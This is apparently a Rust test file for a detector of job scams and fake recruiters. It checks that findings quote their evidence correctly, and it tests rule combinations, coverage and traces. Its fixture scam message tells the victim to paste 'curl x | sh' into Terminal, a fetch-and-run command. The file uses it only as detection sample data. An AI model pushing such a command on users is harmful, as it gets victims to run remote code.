//! Every finding can be checked: its quotes stand where it says in what `convert` prints.

use falseface::content::{Content, ContentFile};
use falseface::dossier::{Dossier, Path, Place, Section};
use falseface::facts::{Category, Elements, Field, Origin, Value};
use falseface::rules::{RuleSet, combine, evaluate, trace};
use falseface::screening::LeafState::{Hit, Miss, NotEvaluable};
use falseface::screening::{Detector, Evidence};
use serde_json::{Value as Json, json};

fn rule(name: &str, id: char, category: &str, detectors: &str, detection: &str) -> ContentFile {
    let id = id.to_string().repeat(8);
    let detection = format!("  {}\n", detection.trim_end().replace('\n', "\n  "));
    let text = format!(
        "title: t\nid: {id}-8c0f-4a53-9a53-0c6f3d9b7f11\nname: {name}\ndate: 2026-11-24\n\
         logsource: {{ product: falseface, category: {category} }}\ndetection:\n{detection}\
         falseface:\n  detectors: {detectors}\n"
    );
    ContentFile { path: format!("detections/conduct/{name}.yml"), text: text.into() }
}

fn rules(files: &[ContentFile]) -> RuleSet {
    let lexicon = ContentFile {
        path: "lexicons/paste-command.yml".into(),
        text: "intent: paste-command\ndescription: d\nphrases:\n  en:\n    - literal: paste\n      match: [paste]\n      no_match: [copy]\n"
            .into(),
    };
    let content = Content::load(&[lexicon]).unwrap_or_else(|errors| panic!("{}", errors[0].render(false)));
    RuleSet::compile(files, &content, &[]).unwrap_or_else(|errors| panic!("{}", errors[0].render(false)))
}

fn dossier() -> Dossier {
    serde_json::from_value(json!({
        "schema": "falseface.dossier/1",
        "id": "d1",
        "role": "recruiter",
        "contacts": [{ "kind": "email", "value": "hr@lure.example" }],
        "messages": [
            { "from_subject": true, "channel": "linkedin", "at": "2026-09-14T08:02:00Z", "text": "Grüße! Hello." },
            { "from_subject": true, "channel": "email", "at": "2026-09-15", "text": "Grüße! Open Terminal and paste: curl x | sh",
              "links": [{ "href": "https://lure.example/a" }] },
            { "from_subject": true, "text": "Please open TERMINAL now." }
        ]
    }))
    .expect("a dossier")
}

/// The facts of the dossier that the rules here read.
fn elements(dossier: &Dossier) -> Elements<'_> {
    let mut builder = Elements::builder(dossier);
    builder.text(Field::SubjectRole, "recruiter", Path::plain("/role"));
    builder.number(
        Field::SubjectMessagesSent,
        3.0,
        Origin::derived_from((0..3).map(|at| Place::whole(Path::at("/messages/*", at)))),
    );
    builder.number(Field::SubjectCareerMonths, 0.0, Origin::derived(Place::whole(Path::NOW)));
    builder.element(Category::Dossier, Path::ROOT);
    builder.text(Field::ContactKind, "email", Path::at("/contacts/*/kind", 0));
    let origin = Origin::derived(Place::whole(Path::at("/contacts/*/value", 0)));
    builder.fact(Field::ContactDomain, Value::Text("lure.example".into()), origin);
    builder.element(Category::Contact, Path::at("/contacts/*", 0));
    for (at, message) in dossier.messages.iter().enumerate() {
        let text = message.text.as_deref().unwrap_or_default();
        let path = Path::at("/messages/*/text", at);
        builder.text(Field::MessageText, text, path);
        builder.flag(
            Field::MessageFromSubject,
            true,
            Origin::read(Place::whole(Path::at("/messages/*/from_subject", at))),
        );
        if let Some(start) = text.find("paste") {
            let origin = Origin::read(Place::part(path, start, start + 5));
            builder.fact(Field::MessageIntent, Value::Text("paste-command".into()), origin);
        }
        builder.known(Field::MessageIntent);
        for (link, _) in message.links.iter().enumerate() {
            let origin = Origin::derived(Place::whole(Path::at2("/messages/*/links/*/href", at, link)));
            builder.fact(Field::MessageLinkDomain, Value::Text("lure.example".into()), origin);
        }
        builder.known(Field::MessageLinkDomain);
        builder.known(Field::MessageSubject);
        builder.element(Category::Message, Path::at("/messages/*", at));
    }
    builder.finish()
}

/// Each piece of evidence with a quote is what stands at its pointer.
fn assert_quoted(dossier: &Dossier, evidence: &[Evidence]) {
    let printed = serde_json::to_value(dossier).expect("prints");
    assert!(evidence.iter().any(|piece| !piece.quote.is_empty()), "{evidence:?}");
    for piece in evidence {
        let raw = printed.pointer(&piece.pointer).unwrap_or_else(|| panic!("nothing at {}", piece.pointer));
        match raw {
            Json::String(text) => {
                assert_eq!(&text[piece.start..piece.end], piece.quote);
                assert!(text[..piece.start].ends_with(&piece.before) && text[piece.end..].starts_with(&piece.after));
            }
            Json::Object(_) | Json::Array(_) => {
                assert!(piece.quote.is_empty() && piece.end == 0 && piece.expected.is_some(), "{piece:?}");
            }
            token => {
                assert_eq!((token.to_string(), piece.start, piece.end), (piece.quote.clone(), 0, piece.quote.len()));
            }
        }
    }
}

/// The evidence of a single rule, checked against the dossier.
fn proof(category: &str, detection: &str) -> Vec<Evidence> {
    let dossier = dossier();
    let rules = rules(&[rule("r", 'a', category, "{ job_scam: 5 }", detection)]);
    let mut findings = evaluate(&rules, &elements(&dossier)).findings;
    assert_eq!(findings.len(), 1, "{detection}");
    let evidence = findings.remove(0).evidence;
    assert_quoted(&dossier, &evidence);
    evidence
}

#[test]
fn words_come_first_and_are_narrowed_to_what_was_looked_for() {
    let evidence = proof(
        "message",
        "s:\n  subject.role: recruiter\n  message.from_subject: true\n  message.text|contains: terminal\n\
         norm:\n  message.subject: hello\ncondition: s and not norm",
    );
    let shown: Vec<_> = evidence.iter().map(|piece| (piece.pointer.as_str(), piece.quote.as_str())).collect();
    assert_eq!(
        shown,
        [
            ("/messages/1/text", "Terminal"),
            ("/role", "recruiter"),
            ("/messages/1/from_subject", "true"),
            ("/messages/1", ""),
        ]
    );
    assert_eq!((evidence[0].before.as_str(), evidence[0].after.as_str()), ("Grüße! Open ", " and paste: curl x | sh"));
    assert_eq!((evidence[0].start, evidence[0].end), (14, 22));
    assert_eq!(evidence[0].label, "message 2 · email");
    assert_eq!(evidence[0].at.map(|at| at.to_string()).as_deref(), Some("2026-09-15"));
    assert_eq!(evidence[3].expected.as_deref(), Some("message.subject: hello"));
}

#[test]
fn a_span_is_quoted_as_it_was_found() {
    let evidence = proof("message", "s:\n  message.intent: paste-command\ncondition: s");
    assert_eq!((evidence[0].quote.as_str(), evidence.len()), ("paste", 1));
}

#[test]
fn a_derived_value_names_all_that_it_was_computed_from() {
    let evidence = proof("dossier", "s:\n  subject.messages_sent|gte: 3\ncondition: s");
    let derived = evidence[0].derived.as_ref().expect("derived");
    assert_eq!((derived.field, derived.value.as_str()), ("subject.messages_sent", "3"));
    assert_eq!(derived.from, ["/messages/0", "/messages/1", "/messages/2"]);
    assert_eq!(evidence[0].pointer, "/messages/0/text", "a scalar inside the message is quoted");

    let evidence = proof("message", "s:\n  message.link_domain: lure.example\ncondition: s");
    assert_eq!(evidence[0].quote, "https://lure.example/a");
    let observable = evidence[0].observable.as_ref().expect("a domain");
    assert_eq!((observable.kind, observable.value.as_str()), ("domain", "lure.example"));
}

#[test]
fn the_clock_is_a_source_but_never_a_quote() {
    let evidence = proof("dossier", "s:\n  subject.career_months: 0\ncondition: s");
    assert!(evidence.iter().all(|piece| piece.pointer != "/run/now"), "{evidence:?}");
}

#[test]
fn what_is_not_there_points_at_its_container() {
    let evidence = proof("message", "s:\n  message.from_subject: true\n  message.subject: null\ncondition: s");
    let absent = evidence.last().expect("two pieces");
    assert_eq!((absent.pointer.as_str(), absent.expected.as_deref()), ("/messages/0", Some("message.subject")));
}

#[test]
fn a_finding_counts_its_elements_and_stays_the_same() {
    let dossier = dossier();
    let detection = "s:\n  message.text|contains: terminal\ncondition: s";
    let file = rule("r", 'a', "message", "{ job_scam: 5 }", detection);
    let find = || evaluate(&rules(std::slice::from_ref(&file)), &elements(&dossier)).findings.remove(0);
    let finding = find();
    assert_eq!((finding.element.as_str(), finding.count), ("/messages/1", 2));
    assert_eq!(finding.fingerprint.len(), 32);
    assert_eq!(finding, find());
}

fn set() -> RuleSet {
    rules(&[
        rule(
            "asks",
            'a',
            "message",
            "{ job_scam: 5, fake_recruiter: 4 }",
            "s:\n  message.intent: paste-command\ncondition: s",
        ),
        rule("pays", 'b', "payment", "{ job_scam: 15 }", "s:\n  payment.method: crypto\ncondition: s"),
        rule("mail", 'c', "contact", "{ fake_recruiter: 0 }", "s:\n  contact.domain: lure.example\ncondition: s"),
        rule("mails", 'd', "contact", "{ fake_recruiter: 2 }", "s:\n  contact.domain: other.example\ncondition: s"),
        rule("a-both", 'e', "dossier", "{ job_scam: 5 }", "s:\n  finding.rule|all: [asks, z-more]\ncondition: s"),
        rule(
            "z-more",
            'f',
            "dossier",
            "{ job_scam: 5 }",
            "s:\n  finding.rule: 'mail*'\no:\n  finding.rule: mails\ncondition: s and not o",
        ),
        rule(
            "z-paid",
            '1',
            "dossier",
            "{ job_scam: 5 }",
            "s:\n  finding.rule: asks\np:\n  finding.rule: pays\ncondition: s and p",
        ),
    ])
}

#[test]
fn combinations_build_on_each_other_and_on_what_is_unknown() {
    let dossier = dossier();
    let rules = set();
    let mut evaluation = evaluate(&rules, &elements(&dossier));
    let name = |position: &u32| rules.rules()[*position as usize].info.name.as_str();
    assert_eq!(evaluation.not_evaluable.iter().map(name).collect::<Vec<_>>(), ["pays"]);
    let unknown = combine(&rules, &dossier.id, &mut evaluation.findings, &evaluation.not_evaluable);
    assert_eq!(unknown.iter().map(name).collect::<Vec<_>>(), ["z-paid"]);
    let names: Vec<_> = evaluation.findings.iter().map(|finding| finding.rule.name.as_str()).collect();
    assert_eq!(names, ["a-both", "asks", "mail", "z-more"]);
    let both = &evaluation.findings[0];
    assert!(both.rule.combination);
    let quotes: Vec<_> = both.evidence.iter().map(|piece| piece.quote.as_str()).collect();
    assert_eq!(quotes, ["paste", "hr@lure.example"]);
    assert_quoted(&dossier, &both.evidence);
    assert_eq!(combine(&rules, &dossier.id, &mut Vec::new(), &evaluation.not_evaluable), [0_u32; 0]);
}

#[test]
fn coverage_is_the_share_of_weight_and_names_what_was_missing() {
    let mut dossier = dossier();
    let rules = set();
    let evaluation = evaluate(&rules, &elements(&dossier));
    assert!((evaluation.coverage[Detector::JobScam] - 0.25).abs() < 1e-9);
    assert!((evaluation.coverage[Detector::FakeRecruiter] - 1.0).abs() < 1e-9);
    assert_eq!(evaluation.missing[Detector::JobScam], [Section::Payments]);
    assert_eq!(evaluation.missing[Detector::FakeRecruiter], []);
    // An export that has the section, with nothing in it, answers the question.
    dossier.coverage.present.push(Section::Payments);
    let evaluation = evaluate(&rules, &elements(&dossier));
    assert_eq!(evaluation.not_evaluable, [0_u32; 0]);
    assert!((evaluation.coverage[Detector::JobScam] - 1.0).abs() < 1e-9);
}

#[test]
fn a_trace_shows_what_every_leaf_saw() {
    let dossier = dossier();
    let rules = set();
    let elements = elements(&dossier);
    let traces = trace(&rules, "asks", &elements, &[]);
    let states: Vec<_> = traces.iter().map(|trace| (trace.element.as_str(), trace.root.state)).collect();
    assert_eq!(states, [("/messages/0", Miss), ("/messages/1", Hit), ("/messages/2", Miss)]);
    let root = &traces[1].root;
    assert_eq!(root.text, "s");
    let leaf = &root.parts[0];
    assert_eq!(leaf.text, "message.intent: paste-command");
    let seen = leaf.leaf.as_ref().expect("a leaf");
    assert_eq!(
        (seen.seen.as_slice(), seen.pointers.as_slice()),
        (&["paste-command".into()][..], &["/messages/1/text".into()][..])
    );

    let traces = trace(&rules, "pays", &elements, &[]);
    assert_eq!((traces.len(), traces[0].root.state), (1, NotEvaluable));

    let findings = evaluate(&rules, &elements).findings;
    let traces = trace(&rules, "z-paid", &elements, &findings);
    assert_eq!(traces[0].root.state, NotEvaluable);
    let states: Vec<_> = traces[0].root.parts.iter().map(|part| part.state).collect();
    assert_eq!(states, [Hit, NotEvaluable]);
    assert!(trace(&rules, "no-such-rule", &elements, &[]).is_empty());
}
